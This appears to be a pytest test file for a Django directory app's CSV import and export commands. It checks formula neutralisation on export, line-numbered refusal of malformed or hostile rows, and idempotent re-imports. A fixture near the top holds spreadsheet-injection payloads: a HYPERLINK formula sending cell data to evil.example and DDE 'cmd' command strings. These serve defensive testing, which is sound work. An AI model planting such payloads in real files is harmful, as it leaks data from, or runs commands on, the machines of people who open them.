"""Issue 13, import tools: spreadsheet formulas are neutralised on export, hostile or broken CSV
files are refused row by row (`file:line: reason`, nothing written, the same with --dry-run), and
re-importing a file is idempotent."""

import csv
import io

import pytest
from django.core.management import CommandError, call_command
from wagtail.models import Revision

from directory.models import IndicatorValue, SocialEnterprise
from tests.directory.factories import SocialEnterpriseFactory

pytestmark = pytest.mark.django_db

HEADER = "slug,name,short_description,description,country,city,phone,latitude,longitude\n"
# Cells a spreadsheet would run as formulas, and legitimate values that start the same way.
HOSTILE = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "short_description": "+cmd|' /C calc'!A0",
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
    "city": "-5",
    "phone": "+371 2000 0000",
}


def import_csv(path, *args, **options):
    """Run import_directory; returns (stdout, stderr) or raises CommandError with stderr attached."""
    out, err = io.StringIO(), io.StringIO()
    try:
        call_command("import_directory", str(path), *args, stdout=out, stderr=err, **options)
    except CommandError as error:
        error.stderr = err.getvalue()
        raise
    return out.getvalue(), err.getvalue()


def refused(path, *args, **options) -> list[str]:
    """The problem lines of an import that must fail, checking nothing was written."""
    entries, values = SocialEnterprise.objects.count(), IndicatorValue.objects.count()
    revisions = Revision.objects.count()
    with pytest.raises(CommandError, match="nothing was imported") as raised:
        import_csv(path, *args, **options)
    assert "Traceback" not in raised.value.stderr
    assert SocialEnterprise.objects.count() == entries
    assert IndicatorValue.objects.count() == values
    assert Revision.objects.count() == revisions
    return raised.value.stderr.splitlines()


def export_csv(path, kind="enterprises"):
    call_command("export_directory", str(path), kind=kind, stdout=io.StringIO())
    return list(csv.reader(path.open(encoding="utf-8", newline="")))


def test_export_neutralises_formulas_and_import_restores_them_exactly(tmp_path):
    source = tmp_path / "source.csv"
    with source.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["slug", "country", "latitude", "longitude", *HOSTILE])
        writer.writerow(["hostile", "LV", "-33.5", "-0.12345", *HOSTILE.values()])
    import_csv(source, kind="enterprises", publish=True)
    # Values that already start with the quote must come back with it.
    SocialEnterpriseFactory(
        slug="quoted",
        name="'=not a formula",
        short_description="'plain",
        description="''-x",
        city="'",
        phone="+",
    ).save_revision().publish()

    first = tmp_path / "first.csv"
    rows = export_csv(first)
    header = rows[0]
    for row in rows[1:]:
        for name, cell in zip(header, row, strict=True):
            assert not cell or cell[0] not in "=+-@\t\r", (name, cell)
    hostile = dict(zip(header, rows[1], strict=True))
    assert hostile["phone"] == "'+371 2000 0000"
    assert hostile["city"] == "'-5"
    assert hostile["latitude"] == "'-33.50000"

    SocialEnterprise.objects.all().delete()
    import_csv(first, kind="enterprises", publish=True)
    entry = SocialEnterprise.objects.get(slug="hostile")
    for name, value in HOSTILE.items():
        assert getattr(entry, name) == value
    quoted = SocialEnterprise.objects.get(slug="quoted")
    assert (quoted.name, quoted.short_description, quoted.description) == (
        "'=not a formula",
        "'plain",
        "''-x",
    )
    assert (quoted.city, quoted.phone) == ("'", "+")
    second = tmp_path / "second.csv"
    export_csv(second)
    assert first.read_bytes() == second.read_bytes()


def test_indicator_value_export_neutralises_formulas(tmp_path):
    SocialEnterpriseFactory(slug="cafe")
    source = tmp_path / "values.csv"
    source.write_text(
        "owner_kind,owner_slug,indicator,period_start,period_end,total,method_note\n"
        'enterprise,cafe,OI8869,2022-01-01,2022-12-31,6,"=1+1 counted by hand"\n',
        encoding="utf-8",
    )
    import_csv(source, kind="indicator-values")
    rows = export_csv(tmp_path / "out.csv", kind="indicator-values")
    assert dict(zip(rows[0], rows[1], strict=True))["method_note"] == "'=1+1 counted by hand"
    IndicatorValue.objects.all().delete()
    import_csv(tmp_path / "out.csv", kind="indicator-values")
    assert IndicatorValue.objects.get().method_note == "=1+1 counted by hand"


def write(tmp_path, text: str, name="entries.csv"):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8", newline="")
    return path


def test_a_huge_cell_is_refused_with_its_line(tmp_path):
    path = write(
        tmp_path,
        HEADER + "ok,Fine,,,LV,,,,\n" + f"huge,Huge,,{'x' * 10_000_000},LV,,,,\n",
    )
    lines = refused(path, kind="enterprises")
    assert lines[0].startswith(f"{path}:3: ")
    assert "longer than" in lines[0]


def test_a_nul_byte_is_refused_with_its_line_and_column(tmp_path):
    path = write(tmp_path, HEADER + "ok,Fine,,,LV,,,,\n" + "nul,Caf\x00e,,,LV,,,,\n")
    (line,) = refused(path, kind="enterprises")
    assert line.startswith(f"{path}:3: slug nul: name: ")
    assert "U+0000" in line


def test_control_characters_are_refused_as_a_class(tmp_path):
    path = write(tmp_path, HEADER + "bell,Bell\x07,,,LV,,,,\nesc,,,\x1b[31m,LV,,,,\n")
    lines = refused(path, kind="enterprises")
    assert lines[0].startswith(f"{path}:2: slug bell: name: ") and "U+0007" in lines[0]
    assert lines[1].startswith(f"{path}:3: slug esc: description: ") and "U+001B" in lines[1]


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-16"])
def test_utf16_is_refused_with_a_line(tmp_path, encoding):
    path = tmp_path / "excel.csv"
    path.write_bytes((HEADER + "cafe,Café,,,LV,,,,\n").encode(encoding))
    (line,) = refused(path, kind="enterprises")
    assert line.startswith(f"{path}:1: ")
    assert "UTF-16" in line and "UTF-8" in line


def test_other_encodings_name_the_line(tmp_path):
    path = tmp_path / "latin1.csv"
    path.write_bytes((HEADER + "ok,Fine,,,DK,,,,\nx,Ærø Kaffe,,,DK,,,,\n").encode("latin-1"))
    (line,) = refused(path, kind="enterprises")
    assert line.startswith(f"{path}:3: ") and "not UTF-8" in line


def test_rows_with_extra_or_missing_cells_are_refused(tmp_path):
    # An unquoted comma shifts every later cell one column to the right.
    path = write(
        tmp_path,
        HEADER
        + "ok,Fine,,,LV,,,,\n"
        + "shifted,Kafejnīca, Liepāja,,,LV,,,,\n"
        + "short,Short,LV\n",
    )
    lines = refused(path, kind="enterprises")
    assert lines == [
        f"{path}:3: slug shifted: 10 cells, but the header has 9 columns "
        "(a comma in a value that is not in quotes?)",
        f"{path}:4: slug short: 3 cells, but the header has 9 columns "
        "(a comma in a value that is not in quotes?)",
    ]


def test_line_numbers_count_lines_inside_quoted_cells(tmp_path):
    path = write(
        tmp_path,
        HEADER + 'multi,Multi,,"one\ntwo\nthree",LV,,,,\n' + "bad,Bad,,,XX,,,,\n",
    )
    (line,) = refused(path, kind="enterprises")
    assert line.startswith(f"{path}:5: slug bad: country: no country 'XX'")


def test_header_problems_name_line_one(tmp_path):
    path = write(tmp_path, "slug,name,country,colour\nx,X,LV,red\n")
    (line,) = refused(path, kind="enterprises")
    assert line.startswith(f"{path}:1: Unknown column(s): colour")


def test_dry_run_finds_everything_the_real_run_refuses(tmp_path):
    path = write(
        tmp_path,
        HEADER
        + "ok,Fine,,,LV,,,,\n"
        + "nul,Caf\x00e,,,LV,,,,\n"
        + "shifted,Kafejnīca, Liepāja,,,LV,,,,\n"
        + "bad-lat,Bad,,,LV,,,95,24\n"
        + f"huge,Huge,{'x' * 400},,LV,,,,\n",
    )
    dry = refused(path, kind="enterprises", dry_run=True)
    real = refused(path, kind="enterprises")
    assert dry == real
    assert [line.split(": ")[0] for line in real] == [f"{path}:{n}" for n in (3, 4, 5, 6)]


def test_reimporting_the_same_file_is_idempotent(tmp_path):
    path = write(
        tmp_path,
        HEADER + "cafe,Café,Kafija,,LV,Liepāja,+371 2000 0000,56.5,21.01\nshop,Shop,,,EE,,,,\n",
    )
    import_csv(path, kind="enterprises", publish=True)
    revisions = Revision.objects.count()

    out, _ = import_csv(path, kind="enterprises")
    assert "0 new, 0 updated, 2 unchanged" in out
    out, _ = import_csv(path, kind="enterprises", publish=True)
    assert "0 new, 0 updated, 2 unchanged" in out
    # The exported file is the same data: importing it changes nothing either.
    exported = tmp_path / "exported.csv"
    export_csv(exported)
    out, _ = import_csv(exported, kind="enterprises")
    assert "0 new, 0 updated, 2 unchanged" in out
    assert Revision.objects.count() == revisions

    changed = write(
        tmp_path,
        HEADER
        + "cafe,Café,Kafija,,LV,Liepāja,+371 2000 0000,56.5,21.01\nshop,Shop renamed,,,EE,,,,\n",
        "changed.csv",
    )
    (line,) = refused(changed, kind="enterprises")
    assert line.startswith(f"{changed}:3: slug shop: ") and "use --update" in line
    out, _ = import_csv(changed, kind="enterprises", update=True, publish=True)
    assert "0 new, 1 updated, 1 unchanged" in out
    assert SocialEnterprise.objects.get(slug="shop").name == "Shop renamed"


def test_publishing_a_draft_counts_as_a_change(tmp_path):
    path = write(tmp_path, HEADER + "cafe,Café,,,LV,,,,\n")
    import_csv(path, kind="enterprises")
    out, _ = import_csv(path, kind="enterprises")
    assert "0 new, 0 updated, 1 unchanged" in out
    (line,) = refused(path, kind="enterprises", publish=True)
    assert "use --update" in line
    import_csv(path, kind="enterprises", publish=True, update=True)
    assert SocialEnterprise.objects.get(slug="cafe").live


def test_reimporting_indicator_values_is_idempotent(tmp_path):
    SocialEnterpriseFactory(slug="cafe")
    path = write(
        tmp_path,
        "owner_kind,owner_slug,indicator,period_start,period_end,total,women,verified\n"
        "enterprise,cafe,OI8869,2022-01-01,2022-12-31,6,4,yes\n",
        "values.csv",
    )
    import_csv(path, kind="indicator-values")
    out, _ = import_csv(path, kind="indicator-values")
    assert "0 new, 0 updated, 1 unchanged" in out
    exported = tmp_path / "exported.csv"
    export_csv(exported, kind="indicator-values")
    out, _ = import_csv(exported, kind="indicator-values")
    assert "0 new, 0 updated, 1 unchanged" in out
    changed = write(tmp_path, path.read_text().replace(",6,4,", ",7,4,"), "changed.csv")
    (line,) = refused(changed, kind="indicator-values")
    assert line.startswith(f"{changed}:2: enterprise cafe: ") and "use --update" in line
